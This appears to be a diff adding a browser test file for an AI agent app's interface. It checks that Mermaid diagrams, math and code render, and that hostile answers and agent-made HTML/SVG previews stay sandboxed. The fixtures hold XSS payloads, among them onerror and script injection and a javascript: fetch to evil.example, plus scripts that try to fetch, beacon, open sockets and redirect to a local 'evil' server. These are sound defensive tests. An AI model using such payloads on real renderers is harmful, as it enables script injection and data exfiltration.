@@ -1,0 +1,305 @@
+import type { Server } from 'node:http';
+import { createServer } from 'node:http';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { TerminalPush } from '../../src/shared/sandbox/sandbox-view.ts';
+import { createPageCore } from '../fakes/page-core.ts';
+import type { PageCore } from '../fakes/page-core.ts';
+import type { Story } from '../fakes/page-story.ts';
+import { changedFiles } from '../fakes/page-scenes.ts';
+import { startStory } from '../fakes/page-story.ts';
+import { violations } from './axe.ts';
+import { keepScreenshot } from './launch.ts';
+import type { ServedPage } from './page-kit.ts';
+import { servePage } from './page-kit.ts';
+
+let served: ServedPage;
+let core: PageCore;
+
+const fenced = (language: string, code: string): string => `\`\`\`${language}\n${code}\n\`\`\``;
+
+const rich = [
+  'A request goes through two parts, and costs $5 to $6 a month.',
+  fenced('mermaid', 'graph TD\n  A[Client] --> B{Router}\n  B -->|small| C[Local model]\n  B -->|large| D[Cloud]'),
+  fenced('mermaid', 'sequenceDiagram\n  Ann->>Bob: Hello\n  Bob-->>Ann: Hi'),
+  'The time is $O(n \\log n)$, and \\(a^2 + b^2 = c^2\\) holds:',
+  '$$\n\\int_0^1 x^2 \\, dx = \\frac{1}{3}\n$$',
+  '| part | seconds |\n|---|---|\n| build, all | 12 |\n| test | 3 |',
+  fenced('python', 'print("hello")'),
+  fenced('mermaid', 'graph TD\n  A[[[ --> broken'),
+].join('\n\n');
+
+const attack = "javascript:fetch('https://evil.example/run')";
+const hostile = [
+  fenced(
+    'mermaid',
+    `graph TD\n  A["<img src=x onerror=top.pwned=1><script>top.pwned=1</script>"] --> B\n  click A "${attack}"\n  click B call pwned()`,
+  ),
+  fenced(
+    'mermaid',
+    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/a.css)"}}%%\ngraph TD\n  A["<iframe src='https://evil.example/'></iframe>"] --> B`,
+  ),
+  fenced('mermaid', `graph TD\n${'a-->b\n'.repeat(320)}`),
+  `Here \\(\\href{${attack}}{x}\\) and $\\url{${attack}}$ and $\\includegraphics{https://evil.example/a.png}$.`,
+  '$$\n\\def\\a{\\a\\a}\\a\n$$',
+  `$$\n${'{'.repeat(300)}\n$$`,
+  '$$\n\\htmlStyle{position:fixed;inset:0}{x} \\htmlData{a=b}{y}\n$$',
+  'The end.',
+].join('\n\n');
+
+async function tell(title: string, text: string, tier: 'container' | 'read-only' = 'read-only'): Promise<void> {
+  const story = await startStory(core, title, '/home/ada/projects/notes');
+  story.sandbox(tier);
+  story.ask(title);
+  story.stage('local', 'A question.');
+  story.step({ stage: 'local', label: 'answer' });
+  story.end('answered', text);
+}
+
+const asked: string[] = [];
+/** A server that nothing foreign may reach, and what reached it. */
+const reached: string[] = [];
+let stranger: Server;
+let evil = '';
+
+beforeAll(async () => {
+  stranger = createServer((request, response) => {
+    reached.push(request.url ?? '');
+    response.end();
+  });
+  stranger.on('connection', () => reached.push('connection'));
+  await new Promise<void>((resolve) => void stranger.listen(0, '127.0.0.1', resolve));
+  const bound = stranger.address();
+  evil = typeof bound === 'object' && bound !== null ? `http://127.0.0.1:${bound.port}` : '';
+  core = createPageCore();
+  await tell('A rich answer', rich, 'container');
+  await tell('A hostile answer', hostile);
+  served = await servePage(core);
+  await served.resize(1360, 860);
+  served.page.on('request', (request) => asked.push(request.url()));
+});
+
+afterAll(async () => {
+  await served?.close();
+  stranger.close();
+});
+
+async function open(title: string): Promise<void> {
+  await served.page.locator('[data-session]', { hasText: title }).last().click();
+  await served.page.getByRole('heading', { level: 1, name: title }).waitFor();
+}
+
+/** What went anywhere but to the page's own server. */
+const elsewhere = () =>
+  asked.filter((url) => !url.startsWith(new URL(served.url).origin) && !/^(?:data|blob|about):/u.test(url));
+
+describe('an answer', { timeout: 120_000 }, () => {
+  it('has diagrams, formulas, tables and code, each with what can be done with it', async () => {
+    const { page } = served;
+    await open('A rich answer');
+    const log = page.getByRole('log');
+    await log.locator('[data-diagram] img').nth(1).waitFor();
+    const sizes = await log
+      .locator('[data-diagram] img')
+      .evaluateAll((images) => images.map((image) => image instanceof HTMLImageElement && image.naturalWidth > 50));
+    expect(sizes).toEqual([true, true]);
+    await log.getByText('This diagram cannot be drawn.').waitFor();
+    await log.getByText('A[[[ --> broken').first().waitFor();
+    await expect.poll(() => log.locator('math').count()).toBe(3);
+    expect(await log.getByText('costs $5 to $6 a month').count()).toBe(1);
+    await keepScreenshot(page, 'content-rich');
+    expect(await violations(page)).toEqual([]);
+    expect(elsewhere()).toEqual([]);
+    expect(served.complaints).toEqual([]);
+  });
+
+  it('is only drawn when it is hostile: nothing runs in the page, and nothing is fetched', async () => {
+    const { page } = served;
+    await open('A hostile answer');
+    const log = page.getByRole('log');
+    await log.getByText('The end.').waitFor();
+    await expect.poll(() => log.locator('[data-diagram] img').count()).toBe(2);
+    await log.getByText('This diagram cannot be drawn.').waitFor();
+    await keepScreenshot(page, 'content-hostile');
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+    expect(await log.locator('a, iframe, script, [onerror], [style*="fixed"]').count()).toBe(0);
+    expect(await log.locator('[href]').count()).toBe(0);
+    expect(elsewhere()).toEqual([]);
+    expect(served.complaints).toEqual([]);
+  });
+
+  it('runs code in the sandbox after a click and not before, and shows what it printed below', async () => {
+    const { page } = served;
+    const ran: unknown[] = [];
+    core.replace({
+      sandboxes: {
+        run: async function* ({ input }): AsyncGenerator<TerminalPush> {
+          ran.push(input);
+          yield { type: 'opened', terminalId: 'one' };
+          yield { type: 'output', text: 'hello\r\n' };
+          yield { type: 'ended', exitCode: 3 };
+        },
+      },
+    });
+    await open('A rich answer');
+    const block = page.getByRole('log').locator('figure', { hasText: 'print("hello")' }).last();
+    await block.getByRole('button', { name: 'Run in sandbox' }).waitFor();
+    expect(ran).toEqual([]);
+    await block.getByRole('button', { name: 'Run in sandbox' }).click();
+    await block.getByText('Failed with exit code 3').waitFor();
+    await block.getByText('hello', { exact: true }).waitFor();
+    expect(ran).toEqual([{ sessionId: expect.any(String), language: 'python', code: 'print("hello")' }]);
+    await keepScreenshot(page, 'content-run');
+    await open('A hostile answer');
+    expect(await page.getByRole('button', { name: 'Run in sandbox' }).count()).toBe(0);
+  });
+});
+
+const pageOf = (evil: string): string => `<!doctype html><title>A page</title><style>h1{color:rgb(1, 2, 3)}</style>
+<meta http-equiv="refresh" content="0;url=${evil}/refresh">
+<link rel="preconnect" href="${evil}"><link rel="stylesheet" href="${evil}/a.css">
+<style>@import url(${evil}/b.css); body{background:url(${evil}/c.png)}</style>
+<h1>Made by the agent</h1><p id="said">no script ran</p>
+<img src="${evil}/d.png" onerror="top.pwned=1"><a id="away" href="${evil}/e">away</a>
+<iframe src="${evil}/f"></iframe><object data="${evil}/g"></object>
+<form action="${evil}/h"><button>send</button></form><video src="${evil}/i" autoplay></video>
+<svg><image href="${evil}/j"/><script>document.querySelector('#said').textContent='a script ran'</script></svg>
+<script>
+  document.querySelector('#said').textContent = 'a script ran';
+  for (const work of [
+    () => { top.pwned = 1; }, () => { parent.pwned = 1; }, () => { top.location = '${evil}/top'; },
+    () => { parent.location = '${evil}/parent'; }, () => fetch('${evil}/fetch').catch(() => 0),
+    () => new WebSocket('${evil.replace('http', 'ws')}/socket'), () => navigator.sendBeacon('${evil}/beacon'),
+    () => { new Image().src = '${evil}/image'; }, () => window.open('${evil}/open'),
+    () => localStorage.setItem('a', 'b'), () => top.postMessage({ type: 'ready' }, '*'),
+    () => { location.href = '${evil}/self'; },
+  ]) { try { work(); } catch { } }
+</script>`;
+
+const drawingOf = (
+  evil: string,
+): string => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="top.pwned=1">
+<style>@import url(${evil}/k.css);</style><script>top.pwned = 1; fetch('${evil}/l')</script>
+<image xlink:href="${evil}/m.png" width="9" height="9"/><rect width="80" height="40" fill="teal"/>
+<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/n"></iframe></foreignObject></svg>`;
+
+describe('the preview', { timeout: 120_000 }, () => {
+  let made: Story;
+  beforeAll(async () => {
+    const story = (made = await startStory(core, 'Made files', '/home/ada/projects/notes'));
+    story.sandbox('container');
+    story.ask('Make a page and a table.');
+    story.stage('local', 'Files are wanted.');
+    for (const path of ['notes.md', 'table.csv', 'drawing.svg', 'index.html']) story.changed(path, 3, 0);
+    story.end('done', 'Four files were made.');
+    core.files.set('index.html', { kind: 'text', text: pageOf(evil) });
+    core.files.set('drawing.svg', { kind: 'text', text: drawingOf(evil) });
+    core.files.set('table.csv', { kind: 'text', text: 'name;age\nAda;36\n"Bob; B";41\n' });
+    core.files.set('notes.md', { kind: 'text', text: '# Notes\n\nA **word**.' });
+    await open('Made files');
+    await served.page.getByRole('tab', { name: 'Preview' }).click();
+  });
+
+  const panel = () => served.page.getByRole('tabpanel', { name: 'Preview' });
+  const choose = (name: string) => panel().getByRole('combobox', { name: 'File' }).selectOption({ label: name });
+  const inner = () => panel().frameLocator('iframe').frameLocator('iframe');
+
+  it('shows a web page behind locks: nothing of it runs or is fetched, and with scripts allowed nothing leaves', async () => {
+    await inner().getByRole('heading', { name: 'Made by the agent' }).waitFor();
+    expect(await inner().locator('#said').textContent()).toBe('no script ran');
+    const color = await inner()
+      .locator('h1')
+      .evaluate((element) => getComputedStyle(element).color);
+    expect(color).toBe('rgb(1, 2, 3)');
+    await keepScreenshot(served.page, 'content-preview');
+    expect(await violations(served.page)).toEqual([]);
+    await panel()
+      .getByRole('checkbox', { name: /Run the scripts/u })
+      .check();
+    await expect.poll(() => asked.filter((url) => url.endsWith('/frames/preview-with-scripts.html')).length).toBe(1);
+    // It did run, and what it tried was refused.
+    await expect.poll(() => served.complaints.some((one) => one.includes('/fetch'))).toBe(true);
+    expect(reached).toEqual([]);
+    expect(await served.page.evaluate(() => 'pwned' in window)).toBe(false);
+    expect(served.page.url()).toContain(new URL(served.url).origin);
+  });
+
+  it('runs the scripts of a file after a yes for it, and follows the file', async () => {
+    const said = (text: string): string => `<p id="said">no</p><script>said.textContent = '${text} ' + origin</script>`;
+    core.files.set('index.html', { kind: 'text', text: said('one') });
+    made.changed('index.html', 4, 0);
+    await inner().getByText('one null').waitFor();
+    core.files.set('index.html', { kind: 'text', text: said('two') });
+    made.changed('index.html', 5, 0);
+    await inner().getByText('two null').waitFor();
+    await choose('notes.md');
+    await choose('index.html');
+    await inner().getByText('no', { exact: true }).waitFor();
+  });
+
+  it('shows an SVG as a picture, a table as a table, and Markdown as a text', async () => {
+    served.complaints.length = 0;
+    await choose('drawing.svg');
+    const picture = panel().getByRole('img', { name: 'Picture drawing.svg' });
+    await picture.waitFor();
+    await expect
+      .poll(() => picture.evaluate((image) => (image instanceof HTMLImageElement ? image.naturalWidth : 0)))
+      .toBe(80);
+    await choose('table.csv');
+    await panel().getByRole('cell', { name: 'Bob; B' }).waitFor();
+    await choose('notes.md');
+    await panel().getByRole('heading', { name: 'Notes' }).waitFor();
+    expect(await served.page.evaluate(() => 'pwned' in window)).toBe(false);
+    expect(reached).toEqual([]);
+    expect(served.complaints).toEqual([]);
+  });
+});
+
+describe('the review of changes', { timeout: 120_000 }, () => {
+  it('has the whole width, both sides beside each other, colors, and a comment on a line for the next message', async () => {
+    const { page } = served;
+    await open('A rich answer');
+    const story = await startStory(core, 'A change to review', '/home/ada/projects/notes');
+    story.ask('Fix it.');
+    story.changed('dates.py', 6, 3);
+    story.end('done', 'Done.');
+    core.changes.set(story.sessionId, changedFiles);
+    await open('A change to review');
+    await page.getByRole('tab', { name: 'Changes' }).click();
+    const panel = page.getByRole('tabpanel', { name: 'Changes' });
+    await panel.locator('[data-diff="unified"] span[style*="color"]').first().waitFor();
+    expect(await panel.getByRole('button', { name: 'Side by side' }).count()).toBe(0);
+    await page.getByRole('button', { name: 'Use the full width' }).click();
+    await panel.getByRole('button', { name: 'Side by side' }).click();
+    await panel.locator('[data-diff="split"]').first().waitFor();
+    await keepScreenshot(page, 'content-review');
+    expect(await violations(page)).toEqual([]);
+    await panel.getByRole('button', { name: 'Comment on line 18' }).first().click();
+    await panel.getByRole('textbox', { name: 'Comment on line 18' }).fill('Say which week is meant.');
+    await panel.getByRole('button', { name: 'Add to message' }).click();
+    await panel.getByText('1 comment was added to your message.').waitFor();
+    await page.getByRole('button', { name: 'Back beside the conversation' }).click();
+    const message = page.getByRole('textbox', { name: 'Message' });
+    expect(await message.inputValue()).toBe('About dates.py line 18: Say which week is meant.');
+    await panel.locator('[data-diff="unified"]').first().waitFor();
+  });
+
+  it('stands in a pane whose width is changed and kept', async () => {
+    const { page } = served;
+    const widthOf = async () => (await page.getByRole('complementary', { name: 'Inspector' }).boundingBox())?.width;
+    const before = (await widthOf()) ?? 0;
+    const edge = page.getByRole('separator', { name: 'Width of the inspector' });
+    await edge.focus();
+    await page.keyboard.press('ArrowLeft');
+    await page.keyboard.press('ArrowLeft');
+    expect(await widthOf()).toBeCloseTo(before + 48, 0);
+    const box = await edge.boundingBox();
+    await page.mouse.move((box?.x ?? 0) + 2, 400);
+    await page.mouse.down();
+    await page.mouse.move((box?.x ?? 0) - 98, 400);
+    await page.mouse.up();
+    expect(await widthOf()).toBeCloseTo(before + 148, 0);
+    await page.reload();
+    await open('A change to review');
+    expect(await widthOf()).toBeCloseTo(before + 148, 0);
+  });
+});
